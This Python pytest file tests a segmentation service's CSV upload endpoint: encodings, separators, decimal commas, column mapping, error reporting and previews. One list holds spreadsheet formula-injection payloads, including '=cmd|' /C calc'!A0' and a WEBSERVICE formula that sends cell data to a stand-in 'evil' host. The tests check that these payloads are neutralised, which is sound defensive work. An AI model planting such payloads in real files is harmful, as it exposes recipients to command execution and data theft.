"""Files of records: what is read out of them, what comes back, and how."""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import socket
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import psutil
import pytest
from flask.testing import FlaskClient
from hypothesis import given, settings
from hypothesis import strategies as st
from werkzeug.test import TestResponse

from segmentation.batch import open_record_file, preview, score, write
from segmentation.batch.answer_columns import COLUMNS, added_columns
from segmentation.batch.csv_writing import neutral
from segmentation.batch.json_lines import LONGEST_CELL
from segmentation.errors import InvalidRecordsError
from segmentation.runtime import Model
from segmentation.schema import Record
from segmentation.service.app import create_app
from segmentation.service.settings import Settings
from segmentation.tables.csv_rows import LONGEST_ROW
from segmentation.tables.open_table import TableOptions
from segmentation.tables.rows import MOST_COLUMNS
from tests.support.records import COMPLETE
from tests.support.servers import Server, flask_process, serving
from tests.support.shipped import MODEL, STUDIES
from tests.support.waiting import PATIENCE, wait_until

MIXED = 'User ID;Größe;Screen On Time (hours/day)\r\n1;"a;\r\nb";4,7\r\n2;é;11,25\r\n'
"""Header in the survey's words, an unknown column with a quoted line break, decimal commas."""

# All that an answer of /predict says as well.
ANSWER = tuple(name for name in COLUMNS if name != "reasons")
NO_TEXT = "The file is not text in UTF-8, UTF-16 or Windows-1252: line 2 is in none of them."


def post(
    client: FlaskClient, body: bytes, path: str = "/predict/file", **options: Any
) -> TestResponse:
    """POST a file."""
    return client.post(path, data=body, **({"content_type": "text/csv"} | options))


def rows_of(text: str, separator: str = ",") -> list[dict[str, str]]:
    """Read a CSV file as its receiver would."""
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=separator, strict=True))


def table_of(rows: Sequence[Sequence[object]], separator: str = ",") -> bytes:
    """Write a CSV file; None is an empty cell."""
    file = io.StringIO(newline="")
    csv.writer(file, delimiter=separator).writerows(rows)
    return file.getvalue().encode()


def scored(model: Model, content: bytes, mapping: dict[str, str] | None = None) -> list[Any]:
    """Return the scored rows of a file."""
    options = TableOptions(mapping=mapping or {})
    with open_record_file(io.BytesIO(content), model.manifest.record, options) as file:
        return [row for rows in score(model, file) for row in rows]


def detail(response: TestResponse, status: int) -> str:
    """Check that an answer is a problem document, and return what it says."""
    assert response.status_code == status, response.text
    assert response.content_type == "application/problem+json"
    return str(json.loads(response.data)["detail"])


def columns_of(answer: dict[str, Any]) -> dict[str, str]:
    """Return what a file says of an answer, by hand from the JSON of /predict."""
    ranked = sorted(answer["probabilities"], key=lambda probability: -probability["probability"])
    ids = [item["id"] for item in ranked if item["id"] != answer["segment"]["id"]]
    return {
        "segment": answer["segment"]["id"],
        "segment_name": answer["segment"]["name"],
        "confidence": f"{answer['confidence']:.6f}",
        "runner_up": ids[0],
        "plausible": "|".join(answer["plausible"]),
        "unsure": json.dumps(answer["unsure"]),
        "basis": answer["basis"],
        "warnings": "|".join(
            f"{warning['field']}: {warning['code']}" if warning["field"] else warning["code"]
            for warning in answer["warnings"]
        ),
        "problem": "",
    }


@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
@pytest.mark.parametrize(
    ("codec", "name"),
    [
        ("utf-8", "UTF-8"),
        ("utf-8-sig", "UTF-8"),
        ("utf-16", "UTF-16"),
        ("cp1252", "Windows-1252"),
    ],
)
@pytest.mark.parametrize("ends", ["\n", "\r\n", "\r"])
def test_what_spreadsheet_programs_save_is_read(
    client: FlaskClient, separator: str, codec: str, name: str, ends: str
) -> None:
    """Each separator, encoding and end of line; umlauts come out in UTF-8, marked if need be."""
    lines = [
        ["Age", "Straße", "Number of Apps Installed"],
        ["33", "Käthe", "64"],
        ["34", "é", "12"],
    ]
    text = "".join(separator.join(line) + ends for line in lines)
    response = post(client, text.encode(codec))
    assert response.status_code == 200, response.text
    assert response.headers["X-File-Encoding"] == name
    assert response.headers["X-Ignored-Columns"] == "Stra%C3%9Fe"
    assert response.data.startswith(b"\xef\xbb\xbf") == (codec != "utf-8")
    answered = rows_of(response.data.decode("utf-8-sig"), separator)
    assert [row["Straße"] for row in answered] == ["Käthe", "é"]
    expected = client.post(
        "/predict", json=[{"age": 33, "apps_installed": 64}, {"age": 34, "apps_installed": 12}]
    )
    for row, answer in zip(answered, expected.json["predictions"], strict=True):
        # Four defining columns are missing, and nobody knows what Straße holds.
        assert row["warnings"].split("|")[0] == "missing_field"
        row["warnings"] = row["warnings"].removeprefix("missing_field").removeprefix("|")
        assert {key: row[key] for key in ANSWER} == columns_of(answer)


def test_a_quoted_line_break_and_a_blank_line_count_as_lines(model: Model) -> None:
    """A row is told by the line in which it begins."""
    content = b'Name,age,apps_installed\r\n"a\r\nb",33,64\r\n\r\n  \r\nc,34,x\r\n'
    good, bad = scored(model, content)
    assert (good.line, good.cells[0], good.answer["segment"]["id"]) == (
        2,
        "a\r\nb",
        "brand_loyalist",
    )
    assert (bad.line, bad.answer) == (6, None)
    assert [(problem.row, problem.field, problem.code) for problem in bad.problems] == [
        (1, "apps_installed", "type")
    ]


@pytest.mark.parametrize(
    ("cells", "values"),
    [
        (["4,7", "4.7"], [4.7, 4.7]),
        (["0,125", "10,5"], [0.125, 10.5]),
        (["1,5e1", "5"], [15.0, 5.0]),
        (["4,5", "1,234"], [4.5, 1.234]),
        (["4.5", "1.234"], [4.5, 1.234]),
        (["4,5", "1.234"], [4.5, 1234.0]),
        (["4.5", "1,234"], [4.5, 1234.0]),
        (["1,234", "1.234"], [None, None]),
        (["4,5", "4.5", "1.234", "1,234"], [4.5, 4.5, None, None]),
        (
            ["4,5", "1.234,5", "1 234,5", "1\u00a0234,5", "1\u202f234"],
            [4.5, 1234.5, 1234.5, 1234.5, 1234.0],
        ),
        (["4,5", "1'234.5", "1.234.567", "1,234.5"], [4.5, 1234.5, 1234567.0, 1234.5]),
        ([",5", "-,5"], [0.5, -0.5]),
    ],
)
def test_a_decimal_comma_is_read_where_it_can_be_nothing_else(
    models: dict[str, Model], cells: list[str], values: list[float | None]
) -> None:
    """Otherwise the row is bad, and the others are not."""
    model = models["credit_card"]
    content = table_of([["PURCHASES", "BALANCE"], *([5, cell] for cell in cells)], ";")
    for row, value in zip(scored(model, content), values, strict=True):
        if value is None:
            (problem,) = row.problems
            assert (problem.field, problem.code) == ("BALANCE", "ambiguous")
            continue
        try:
            assert [row.answer] == model.predict([{"purchases": 5, "balance": value}])
        except InvalidRecordsError:
            assert [item.code for item in row.problems] == ["range"]


def test_where_commas_separate_cells_numbers_have_points_unless_one_proves_the_comma(
    model: Model,
) -> None:
    """There 1.234 is a number and 1,234 may be a thousand; beside a quoted 4,7 both are clear."""
    column = b"screen_on_hours_per_day\n"
    rows = scored(model, column + b'1.234\n"1,234"\n')
    assert [[problem.code for problem in row.problems] for row in rows] == [[], ["ambiguous"]]
    rows = scored(model, column + b'"4,7"\n1.234\n"1,234"\n')
    assert [[problem.code for problem in row.problems] for row in rows] == [[], ["range"], []]


def test_the_confidence_has_the_files_own_decimal_mark(client: FlaskClient) -> None:
    """So that the spreadsheet that wrote the file reads it as a number."""
    response = post(client, MIXED.encode("cp1252"))
    answered = rows_of(response.data.decode("utf-8-sig"), ";")
    assert [bool(re.fullmatch(r"0,\d{6}|1,000000", row["confidence"])) for row in answered] == [
        True
    ] * 2
    assert answered[0]["Größe"] == "a;\r\nb"


@pytest.mark.parametrize("study", STUDIES)
def test_every_sample_is_answered_like_its_records(
    client: FlaskClient, models: dict[str, Model], samples: dict[str, list[Record]], study: str
) -> None:
    """Row by row, in order, in each study; original columns stay as they are."""
    records = samples[study][:300]
    header = list(dict.fromkeys(name for record in records for name in record))
    body = table_of([header, *([record.get(name) for name in header] for record in records)])
    response = post(client, body, f"/studies/{study}/predict/file")
    assert response.status_code == 200
    answered = rows_of(response.text)
    assert response.text.endswith("\r\n")
    for row, original, answer in zip(
        answered, rows_of(body.decode()), models[study].predict(records), strict=True
    ):
        assert {key: row[key] for key in ANSWER} == columns_of(answer)
        assert {key: row[key] for key in header} == original


CELLS = st.fixed_dictionaries(
    {
        "user_id": st.one_of(st.none(), st.integers(1, 10**9)),
        "app_usage_min_per_day": st.one_of(st.none(), st.integers(-5, 2000)),
        "screen_on_hours_per_day": st.one_of(st.none(), st.floats(-1, 30)),
        "apps_installed": st.one_of(st.none(), st.integers(0, 300)),
        "gender": st.one_of(st.none(), st.text("abc äöü,;\"'\t\n", min_size=1).filter(str.strip)),
    }
)


@settings(max_examples=150)
@given(records=st.lists(CELLS, min_size=1, max_size=40), separator=st.sampled_from(",;\t"))
def test_any_records_are_answered_in_order_as_by_predict(
    model: Model, records: list[Record], separator: str
) -> None:
    """What /predict refuses is the one that has a problem; a row without any answer is no row."""
    records = [r for r in records if any(value not in (None, "") for value in r.values())]
    stripped = [
        record | {"gender": record["gender"] and record["gender"].strip()} for record in records
    ]
    header = ["user_id", "app_usage_min_per_day", "screen_on_hours_per_day", "apps_installed"]
    header.append("gender")
    content = table_of([header, *([r[name] for name in header] for r in stripped)], separator)
    # Decimals are repr: 1.234 alone would be one that can be read in two ways.
    rows = scored(model, content + table_of([["", "", "0.5", "", ""]], separator))[:-1]
    for row, record in zip(rows, stripped, strict=True):
        try:
            assert [row.answer] == model.predict([record])
        except InvalidRecordsError as error:
            assert row.answer is None
            known_names = {(problem.field, problem.message) for problem in error.problems}
            assert {(item.field, item.message) for item in row.problems} == known_names


def test_bad_rows_are_told_by_line_field_and_reason(client: FlaskClient) -> None:
    """While the good ones between them are scored."""
    body = (
        b"Age,Number of Apps Installed,Note\n"
        b"33,64,fine\n"
        b"300,x,two problems\n"
        b"33\n"
        b"33,64,more,cells\n"
        b"33,,nothing to go by\n"
        b"33,64,fine again,,\n"
    )
    answered = rows_of(post(client, body).text)
    assert [bool(row["segment"]) for row in answered] == [True, False, False, False, False, True]
    assert [row["problem"] for row in answered] == [
        "",
        "line 3, Age: must be a whole number from 0 to 120 (years);"
        " Number of Apps Installed: must be a number from 0 to 2000 (apps)",
        "line 4: has 1 cell, the header has 3",
        "line 5: has 4 cells, the header has 3",
        "line 6: needs at least one of: app_usage_min_per_day, screen_on_hours_per_day,"
        " battery_drain_mah_per_day, apps_installed, data_usage_mb_per_day",
        "",
    ]
    bad = answered[1]
    assert all(bad[name] == "" for name in COLUMNS if name != "problem")
    assert (bad["Age"], bad["Number of Apps Installed"]) == ("300", "x")


HOSTILE = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil","x")', "=SUM(A1:A9)", "==1", "= 1",
    "+1+1", "+cmd|' /C calc'!A0", "+A1", "++1", "+", "-1+1", "-A1", "-cmd|' /C calc'!A0", "--1",
    "-", "-1.5.2", "@SUM(A1)", "@", "@A1", "\tx", "\r=1+1", "\rx", "\n=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20A1", "=WEBSERVICE(\"http://evil/\"&A1)", "-1e5x",
    "=\u202e1", "+1 (2)",
)  # fmt: skip
HARMLESS = ("-1.5", "+1.5", "-1,5", "-1", "+49123", "-.5", "-1e5", "1=1", "a@b", "x-y", "'=1", "")


@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
def test_cells_that_a_spreadsheet_would_run_are_neutralised(
    client: FlaskClient, separator: str
) -> None:
    """With an apostrophe in front, cells and headers; plain numbers stay, and so do all others."""
    cells = [*HOSTILE, *HARMLESS]
    body = table_of(
        [["age", "apps_installed", "=note"], *([33, 64, cell] for cell in cells)], separator
    )
    response = post(client, body)
    answered = rows_of(response.text, separator)
    assert [row["'=note"] for row in answered] == [*("'" + cell for cell in HOSTILE), *HARMLESS]
    assert {row["segment"] for row in answered} == {"brand_loyalist"}


@pytest.mark.parametrize(
    ("separator", "cell", "expected"),
    [
        (",", ";=1+1", ";'=1+1"),
        (",", "\t=1+1", "'\t'=1+1"),
        (",", "a; =1+1", "a;' =1+1"),
        (",", "a|@SUM(A1)|-cmd", "a|'@SUM(A1)|'-cmd"),
        (";", "1,=1+1", "1,'=1+1"),
        (";", ",+A1", ",'+A1"),
        ("\t", "x;-1+1", "x;'-1+1"),
        (",", "a;b", "a;b"),
        (";", "10,-", "10,-"),
        (";", "52.5,-1.25", "52.5,-1.25"),
        ("\t", "1;+2;-3", "1;+2;-3"),
    ],
)
def test_a_formula_that_only_another_separator_shows_is_neutralised(
    client: FlaskClient, separator: str, cell: str, expected: str
) -> None:
    """A spreadsheet takes the separator of its own language; prices and pairs stay."""
    body = table_of([["age", "apps_installed", "note"], [33, 64, cell]], separator)
    (row,) = rows_of(post(client, body).text, separator)
    assert row["note"] == expected


def test_a_hostile_cell_in_a_bad_row_is_neutralised_as_well(client: FlaskClient) -> None:
    """And the problem that goes with it doesn't repeat it."""
    header = "apps_installed"
    (row,) = rows_of(post(client, f"{header},x\n=1+1,\n".encode()).text)
    assert row[header] == "'=1+1"
    assert row["problem"] == "line 2, apps_installed: must be a number from 0 to 2000 (apps)"


def test_a_hostile_name_of_a_mapped_column_is_told_as_it_is(client: FlaskClient) -> None:
    """Inside a sentence it is harmless."""
    body = b"=apps\nx\n"
    (row,) = rows_of(post(client, body, "/predict/file?map=%3Dapps:apps_installed").text)
    assert row["'=apps"] == "x"
    assert row["problem"].startswith("line 2, =apps: ")
    assert neutral(row["problem"]) == row["problem"]


def test_names_that_are_taken_give_ours_a_number(client: FlaskClient) -> None:
    """An answered file can be scored again."""
    once = post(client, b"age,apps_installed\n33,64\n")
    twice = post(client, once.data)
    assert twice.text.splitlines()[0].split(",") == [
        "age", "apps_installed", *COLUMNS, *(f"{name}_2" for name in COLUMNS)
    ]  # fmt: skip
    (row,) = rows_of(twice.text)
    assert [row[name] for name in COLUMNS] == [row[f"{name}_2"] for name in COLUMNS]


def test_headers_are_found_in_every_spelling_and_case(model: Model) -> None:
    """Trimmed, by name, title or alias; the one that is spelled right goes first."""
    header = b" AGE ,age,number  of apps installed,Screen on time (MIN/day),Mood"
    content = io.BytesIO(header + b"\n1,2,3,60,x\n")
    with open_record_file(content, model.manifest.record) as file:
        fields = [None, "age", "apps_installed", "Screen On Time (min/day)", None]
        assert file.table.fields == fields
        assert file.ignored == [" AGE ", "Mood"]
        (row,) = (row for rows in score(model, file) for row in rows)
    (expected,) = model.predict([{"age": 2, "apps_installed": 3, "screen_on_hours_per_day": 1}])
    assert row.answer == expected | {"warnings": [*file.warnings, *expected["warnings"]]}
    assert len(file.warnings) == 1


def test_the_target_is_passed_on_and_not_read(model: Model) -> None:
    """The samples themselves can be scored."""
    content = b"Number of Apps Installed,User Behavior Class\n64,5\n"
    with open_record_file(io.BytesIO(content), model.manifest.record) as file:
        assert file.table.fields == ["apps_installed", None]


def test_columns_are_mapped_as_the_caller_says(client: FlaskClient) -> None:
    """To fields in any spelling, or to nothing; that goes before what their headers say."""
    body = b"Apps: all,Screen,apps_installed,age\n64,366,1,300\n"
    path = (
        "/predict/file?map=Apps:%20all:apps_installed&map=Screen:Screen On Time (min/day)&map=age:"
    )
    response = post(client, body, path)
    assert response.headers["X-Ignored-Columns"] == "apps_installed,age"
    (row,) = rows_of(response.text)
    answer = client.post("/predict", json={"apps_installed": 64, "screen_on_hours_per_day": 6.1})
    assert {key: row[key] for key in ANSWER} == columns_of(answer.json)


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("map=age", "Mapping 1 has no colon."),
        ("map=age:age&map=Note:nothing", "Mapping 2 names no field; there are user_id, "),
        ("map=Note:User Behavior Class", "Mapping 1 names no field; there are user_id, "),
        ("map=Other:age", "Mapping 1 is of a column that the file does not have."),
        ("map=Note:age&map=Note:gender", "Mapping 2 is of a column that has one already."),
        ("map=Note:age&map=age:age", "2 columns are read as age; "),
    ],
)
def test_a_mapping_that_cannot_be_is_a_400(client: FlaskClient, query: str, message: str) -> None:
    """It is named by its number; what was sent is not repeated."""
    body = b"age,apps_installed,Note\n33,64,\n"
    assert detail(post(client, body, f"/predict/file?{query}"), 400).startswith(message)


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b"", "The file is empty."),
        (b"\xef\xbb\xbf", "The file is empty."),
        (b"\r\n  \r\n", "The file is empty."),
        (b"age,apps_installed\r\n", "The file has a header but no rows."),
        (b"age,apps_installed\r\n\r\n", "The file has a header but no rows."),
        (b"Zaphod,4242\n5,6\n", "No column of the file has a name that is known; "),
        (b"age,Age,apps_installed\n5,6,7\n", "2 columns are read as age; "),
        (b'age\n33\n"33\n34\n', "The row that begins in line 3 is not CSV: "),
        (b'age\n"33"4\n', "The row that begins in line 2 is not CSV: "),
        (b"age\n" + b"3" * (LONGEST_ROW + 1), "The row that begins in line 2 is longer than "),
        (b'age\n"' + b"3\n" * LONGEST_ROW, "The row that begins in line 2 is longer than "),
        (b"," * LONGEST_ROW * 2, "The row that begins in line 1 is longer than "),
        (b"age" + b"," * MOST_COLUMNS, f"The file has more than {MOST_COLUMNS} columns."),
        (b"PK\x03\x04\x14\0\x06\0", "The file is not a whole zip archive."),
        (b"age\n3\x003\n", NO_TEXT),
        (b"age\n\x81\x8d\n", NO_TEXT),
        (b"\xef\xbb\xbfage\n\xff\n", "The file is not text in UTF-8: line 2 is not."),
        (b"\xff\xfeage", "The file is not text in UTF-16: line 1 is not."),
    ],
)  # fmt: skip
def test_a_file_of_which_nothing_can_be_scored_is_a_422(
    client: FlaskClient, body: bytes, message: str
) -> None:
    """Before the first byte of an answer, with the exact reason and no value."""
    # werkzeug's client leaves the length of nothing out.
    text = detail(post(client, body, environ_overrides={"CONTENT_LENGTH": str(len(body))}), 422)
    assert text.startswith(message)
    assert "Zaphod" not in text
    assert "4242" not in text


@pytest.mark.parametrize(
    "content_type", ["", "application/json", "multipart/form-data", "text/html"]
)
def test_another_content_type_is_a_415(client: FlaskClient, content_type: str) -> None:
    """With the one that is meant."""
    response = post(client, b"age\n3\n", content_type=content_type)
    assert "text/csv" in detail(response, 415)
    assert response.headers["Accept"].startswith("text/csv, ")


@pytest.mark.parametrize(
    "content_type",
    ["text/csv; charset=latin-1", "Text/CSV", "text/plain", "application/octet-stream"],
)
def test_what_browsers_and_programs_call_a_csv_file_is_taken(
    client: FlaskClient, content_type: str
) -> None:
    """The encoding is found out, whatever they say."""
    body = "age,apps_installed,Note\n33,64,é\n".encode()
    (row,) = rows_of(post(client, body, content_type=content_type).text)
    assert row["Note"] == "é"


def test_a_file_that_is_gzip_itself_is_read(client: FlaskClient) -> None:
    """A request's body is kept in a file that can be written, too, which gzip must not do."""
    text = b"age,apps_installed\n33,64\n"
    assert post(client, gzip.compress(text)).data == post(client, text).data


def test_a_compressed_file_is_a_415(client: FlaskClient) -> None:
    """As everywhere."""
    detail(post(client, b"\x1f\x8b", headers={"Content-Encoding": "gzip"}), 415)


def test_a_longer_file_than_allowed_is_a_413() -> None:
    """The limit is one of its own: the one of other bodies doesn't apply."""
    limits = Settings(model_path=MODEL, max_body_bytes=1024, max_file_bytes=3000)
    client = create_app(limits).test_client()
    body = b"age,apps_installed\n" + b"33,64\n" * 400
    assert post(client, body).status_code == 200
    assert "3000 bytes" in detail(post(client, body + b"33,64\n" * 200), 413)


def test_no_model_and_no_study_are_told_before_the_file_is_read(tmp_path: Path) -> None:
    """As by other routes."""
    client = create_app(Settings(model_path=tmp_path / "none.bin")).test_client()
    detail(post(client, b"age\n3\n"), 503)
    detail(post(client, b"age\n3\n", "/studies/none/predict/file"), 404)


def test_an_answer_is_a_file_to_save(client: FlaskClient) -> None:
    """With a fixed name; what was sent doesn't get into headers unescaped."""
    response = post(client, b'age,apps_installed,"a,\r\nb"\n33,64,\n')
    assert response.content_type == "text/csv; charset=utf-8; header=present"
    assert response.headers["Content-Disposition"] == 'attachment; filename="segments.csv"'
    assert response.headers["X-Ignored-Columns"] == "a%2C%0D%0Ab"
    large = ",".join(f"column {number}" for number in range(400))
    header = post(client, f"age,apps_installed,{large}\n".encode() + b"33,64" + b"," * 400).headers
    assert len(header["X-Ignored-Columns"]) <= 2004
    assert re.fullmatch(r"(column%20\d+,)+\.\.\.", header["X-Ignored-Columns"])


def test_metrics_count_the_answers_of_files() -> None:
    """Of those rows that were answered."""
    client = create_app(Settings(model_path=MODEL)).test_client()
    response = post(client, b"age,apps_installed\n" + b"33,64\n" * 40 + b"300,1\n")
    assert response.data.count(b"\r\n") == 42
    text = client.get("/metrics").text
    assert 'segmentation_answers_total{segment="brand_loyalist",study="mobile"} 40.0' in text
    assert 'route="/predict/file",status="200"} 1.0' in text


LINES = "application/x-ndjson"


def lines_of(response: TestResponse) -> tuple[dict[str, Any], list[dict[str, Any]], bytes]:
    """Return the first line of an answer, its rows, and the CSV file that its texts make."""
    assert response.status_code == 200, response.text
    assert response.content_type == LINES
    first, *further, last = (json.loads(line) for line in response.data.splitlines())
    rows = [row for line in further for row in line["rows"]]
    n_refused = sum(bool(row["problems"]) for row in rows)
    assert last == {
        "summary": {
            "n_rows": len(rows),
            "n_answered": len(rows) - n_refused,
            "n_refused": n_refused,
            "left_out": [],
        }
    }
    text = "".join(line["csv"] for line in (first, *further))
    return first, rows, text.encode()


@pytest.mark.parametrize("study", STUDIES)
@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_json_lines_hold_the_csv_file_byte_for_byte(
    client: FlaskClient, samples: dict[str, list[Record]], study: str, codec: str
) -> None:
    """And say of each row what the file says of it."""
    records = samples[study][:50]
    header = [*dict.fromkeys(name for record in records for name in record), "Größe", "=x"]
    rows = [[*(record.get(name) for name in header[:-2]), "é", "=1+1"] for record in records]
    body = table_of([header, *rows, ["x"], [*rows[0][:-3], "x", "x", "x"]], ";")
    body, path = body.decode().encode(codec), f"/studies/{study}/predict/file"
    expected = post(client, body, path)
    first, text, content = lines_of(post(client, body, path, headers={"Accept": LINES}))
    assert content == expected.data
    assert first["n_rows"] == len(text) == 52
    for row, text_value in zip(rows_of(content.decode("utf-8-sig"), ";"), text, strict=True):
        assert row["segment"] == (text_value["segment"] or "")
        assert row["runner_up"] == text_value["runner_up"]
        assert row["plausible"] == "|".join(text_value["plausible"])
        assert row["reasons"] == "|".join(
            f"{r['field']}: {r['level']}" for r in text_value["reasons"]
        )
        assert bool(row["problem"]) == bool(text_value["problems"])
        assert all(problem["message"] in row["problem"] for problem in text_value["problems"])


def test_json_lines_say_how_the_file_was_read_and_where_each_row_is(client: FlaskClient) -> None:
    """Encoding, marks, fields with their units; the line and the first cells of each row."""
    body = 'Nr;Screen On Time (min/day);Größe;d\r\n"a\r\nb";366,5;é;4\r\nc;x;;\r\n'
    first, (good, bad), _ = lines_of(post(client, body.encode("cp1252"), headers={"Accept": LINES}))
    (warning,) = first.pop("warnings")
    assert warning["code"] == "missing_field"
    assert {name: first[name] for name in first if name not in ("csv", "columns")} == {
        "format": "csv",
        "encoding": "Windows-1252",
        "separator": ";",
        "sheet": "",
        "decimal_mark": ",",
        "n_rows": 2,
        "n_above": 0,
        "n_repeated": 0,
        "missing_defining": [
            "app_usage_min_per_day",
            "battery_drain_mah_per_day",
            "apps_installed",
            "data_usage_mb_per_day",
        ],
        "of_orders": False,
        "orders": None,
    }
    assert [tuple(column.values()) for column in first["columns"]] == [
        ("Nr", None, None, None),
        ("Screen On Time (min/day)", "screen_on_hours_per_day", "minutes per day", None),
        ("Größe", None, None, None),
        ("d", None, None, None),
    ]
    assert (good["line"], good["cells"]) == (2, ["a\r\nb", "366,5", "é"])
    answer: Any = client.post("/predict", json={"screen_on_hours_per_day": 366.5 / 60}).json
    assert good["segment"] == answer["segment"]["id"]
    assert good["warnings"] == [warning, *answer["warnings"]]
    assert [bad[name] for name in ("line", "segment", "confidence")] == [4, None, None]
    (problem,) = bad["problems"]
    assert problem["field"] == "Screen On Time (min/day)"
    assert problem["message"].startswith("must be a number from 0 to 1440")


def test_cells_of_json_lines_are_cut(client: FlaskClient) -> None:
    """They are there to know a row by; the CSV text has all of them."""
    body = b"note,apps_installed\n%b,64\n" % (b"x" * 30_000)
    _, (row,), content = lines_of(post(client, body, headers={"Accept": LINES}))
    assert row["cells"] == ["x" * (LONGEST_CELL - 1) + "…", "64"]
    assert b"x" * 30_000 in content


@pytest.mark.parametrize("accept", ["", "*/*", "text/csv", "text/*", "application/json", "x"])
def test_who_does_not_ask_for_lines_gets_csv(client: FlaskClient, accept: str) -> None:
    """As before."""
    response = post(client, b"apps_installed\n64\n", headers={"Accept": accept})
    assert response.content_type.startswith("text/csv")
    assert response.headers["Vary"] == "Accept"


def test_reasons_are_answers_nearer_to_the_segments_average_than_to_the_runner_ups(
    model: Model,
) -> None:
    """By hand: spreads and averages from the model card, one answer missing, one against it."""
    header = b"apps_installed,screen_on_hours_per_day,data_usage_mb_per_day\n"
    (row,) = scored(model, header + b"64,4.2,\n")
    manifest = model.manifest
    names = ("apps_installed", "screen_on_hours_per_day")
    ranked = sorted(
        row.answer["probabilities"], key=lambda probability: -probability["probability"]
    )
    means = {
        segment.id: {name: segment.numbers[name].mean for name in names}
        for segment in manifest.segments
    }
    own, second = (means[item["id"]] for item in ranked[:2])
    gains = {}
    for name, value in zip(names, (64, 4.2), strict=True):
        deciles = manifest.baseline.numbers[name].deciles
        spread = deciles[8] - deciles[0]
        gains[name] = (abs(value - second[name]) - abs(value - own[name])) / spread
    expected = sorted(
        (gain for gain in gains if gains[gain] > 0), key=lambda item_value: -gains[item_value]
    )
    assert expected
    assert [reason["field"] for reason in row.reasons] == expected
    assert tuple(row.reasons[0].values()) == ("screen_on_hours_per_day", "average")
    deciles = manifest.baseline.numbers["screen_on_hours_per_day"].deciles
    assert deciles[3] < 4.2 < deciles[5]


def test_a_preview_says_what_the_whole_file_says(client: FlaskClient) -> None:
    """And shows the first rows, whole, and the fields that are not there."""
    rows = b"".join(b"%d;4,5;Kaethe;x;x\r\n" % number for number in range(9))
    body = b"Number of Apps Installed;Screen on;Name;d;e\r\n" + rows
    path = "/predict/file{}?map=Screen on:screen_on_hours_per_day"
    first, *_ = lines_of(post(client, body, path.format(""), headers={"Accept": LINES}))
    first.pop("csv")
    content = post(client, body, path.format("/preview")).json
    assert {name: content[name] for name in first} == first
    assert content["problem"] is None
    assert content["rows"] == [
        {"line": 2 + number, "cells": [str(number), "4,5", "Kaethe", "x", "x"]}
        for number in range(5)
    ]
    assert content["missing"] == [
        "user_id", "device_model", "operating_system", "app_usage_min_per_day",
        "battery_drain_mah_per_day", "data_usage_mb_per_day", "age", "gender",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("body", "fields"),
    [
        (b"Zaphod,4242\n5,6\n", [None, None]),
        (b"age,Age,apps_installed\n5,6,7\n", ["age", "age", "apps_installed"]),
        (b"AGE,aGE,APPS_INSTALLED\n5,6,7\n", ["age", "age", "apps_installed"]),
    ],
)
def test_a_preview_shows_columns_that_cannot_be_told_apart(
    client: FlaskClient, body: bytes, fields: list[str | None]
) -> None:
    """So that someone can say which is meant; what is said of the whole file is said."""
    content: Any = post(client, body, "/predict/file/preview").json
    assert content["problem"] == detail(post(client, body), 422)
    if any(fields):
        assert [column["field"] for column in content["columns"]][:2] == fields[:2]


@settings(max_examples=200)
@given(
    rows=st.lists(st.lists(st.text('aé,;"\n\U0001f600', max_size=5), min_size=2, max_size=2)),
    codec=st.sampled_from(["utf-8", "utf-8-sig", "utf-16"]),
    share=st.floats(0, 1),
)
def test_the_beginning_of_a_file_is_read_as_the_file_is(
    model: Model, rows: list[list[str]], codec: str, share: float
) -> None:
    """Wherever it is cut: its whole rows are the first rows of the file, and none is made up."""
    head = [["age", "note"]]
    complete = table_of([*head, *rows, ["1", "end"]]).decode().encode(codec)
    start = len(table_of(head).decode().encode(codec))
    cut = complete[: start + round((len(complete) - start) * share)]
    beginning = preview(io.BytesIO(cut), model, cut=True)
    expected = preview(io.BytesIO(complete), model)
    assert beginning["columns"] == expected["columns"]
    assert beginning["n_rows"] is None
    n_whole = len(beginning["rows"])
    assert beginning["rows"] == expected["rows"][:n_whole]
    assert n_whole >= min(len(expected["rows"]), 5) - 1 or share < 1


def test_a_header_that_is_cut_is_told(client: FlaskClient) -> None:
    """Nothing is known of such a file."""
    response = post(client, b"age,apps_ins", "/predict/file/preview?cut=true")
    assert detail(response, 422) == "The header is longer than what was sent."
    response = post(client, b"age,apps_installed\n", "/predict/file/preview?cut=true")
    assert response.json["rows"] == []


def test_a_preview_is_short(client: FlaskClient) -> None:
    """More than a megabyte of a beginning is not looked at."""
    body = b"age\n" + b"33\n" * 400_000
    assert "1048576 bytes" in detail(post(client, body, "/predict/file/preview?cut=true"), 413)
    assert detail(post(client, b"age\n3\n", "/predict/file/preview?cut=1"), 400).startswith("cut ")


@pytest.mark.parametrize("study", STUDIES)
@pytest.mark.parametrize(("query", "separator"), [("", ","), ("?commas=true", ";")])
def test_a_template_can_be_scored(
    client: FlaskClient, models: dict[str, Model], study: str, query: str, separator: str
) -> None:
    """It has what the model reads; its examples are answered as the segments they stand for."""
    response = client.get(f"/studies/{study}/predict/file/template{query}")
    assert response.headers["Content-Disposition"] == 'attachment; filename="template.csv"'
    header, *rows = csv.reader(io.StringIO(response.text, newline=""), delimiter=separator)
    manifest = models[study].manifest
    assert {feature.name for feature in manifest.record.features} <= set(header)
    assert len(rows) == 2
    answered = rows_of(
        post(client, response.data, f"/studies/{study}/predict/file").text, separator
    )
    assert [row["segment"] for row in answered] == [
        manifest.segments[0].id,
        manifest.segments[-1].id,
    ]


class Counted(io.BytesIO):
    """A file that counts what is read of it."""

    n_read = 0

    def read1(self, size: int | None = -1) -> bytes:
        """Read, and count."""
        content = super().read1(size)
        self.n_read += len(content)
        return content


@pytest.mark.parametrize("taken_name", ["segment", "SEGMENT", " Problem ", "\u017fegment"])
def test_added_columns_are_numbered_whatever_the_case_of_the_one_that_is_taken(
    taken_name: str,
) -> None:
    """Spreadsheets and databases take names for the same that differ in case or blanks only."""
